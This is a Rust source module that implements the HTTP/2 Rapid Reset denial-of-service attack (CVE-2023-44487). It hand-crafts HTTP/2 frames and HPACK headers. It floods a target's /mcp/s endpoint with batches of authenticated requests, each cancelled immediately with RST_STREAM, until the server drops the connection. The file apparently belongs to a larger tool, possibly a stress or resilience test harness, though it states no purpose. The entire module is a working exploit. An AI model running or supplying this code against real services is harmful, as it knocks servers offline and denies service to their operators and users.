//! Rapid resets: calls over HTTP/2 that are taken back in the same write that sends them (CVE-2023-44487).
//!
//! The frames are written by hand: no client library sends a request that it has already given up.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Aim, CALL};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// How many calls go with one write.
const AT_ONCE: u32 = 100;

/// Kinds of frames, RFC 9113 section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// Goes on until the connection is closed.
pub(super) async fn rapid(mut stream: TcpStream, aim: &Aim) -> String {
    if stream.write_all(&start()).await.is_err() {
        return "closed".to_owned();
    }
    let (mut read, mut write) = stream.into_split();
    let head = head(aim);
    let sending = async {
        // a client's streams have odd numbers
        let mut next = 1;
        while next < 1 << 30 {
            let many: Vec<u8> = (0..AT_ONCE)
                .flat_map(|_| {
                    let stream = next;
                    next += 2;
                    taken_back(stream, &head)
                })
                .collect();
            if write.write_all(&many).await.is_err() {
                break;
            }
        }
    };
    let reading = async {
        let mut part = [0; 4096];
        while matches!(read.read(&mut part).await, Ok(count) if count > 0) {}
    };
    tokio::select! {
        () = sending => {}
        () = reading => {}
    }
    "closed".to_owned()
}

/// What a client begins with.
pub fn start() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// A whole call.
pub fn call(stream: u32, head: &[u8]) -> Vec<u8> {
    [
        frame(HEADERS, END_HEADERS, stream, head),
        frame(DATA, END_STREAM, stream, CALL.as_bytes()),
    ]
    .concat()
}

fn taken_back(stream: u32, head: &[u8]) -> Vec<u8> {
    [
        call(stream, head),
        frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()),
    ]
    .concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call: every field a literal that nobody keeps (RFC 7541 section 6.2.2).
pub fn head(aim: &Aim) -> Vec<u8> {
    let (host, bearer) = (aim.gate.to_string(), format!("Bearer {}", aim.token));
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/mcp/s"),
        (":authority", host.as_str()),
        ("authorization", bearer.as_str()),
        ("content-type", "application/json"),
    ];
    let mut head = Vec::new();
    for (name, value) in fields {
        head.push(0);
        for text in [name, value] {
            // none is longer than 126 bytes
            head.push(u8::try_from(text.len()).unwrap());
            head.extend(text.as_bytes());
        }
    }
    head
}
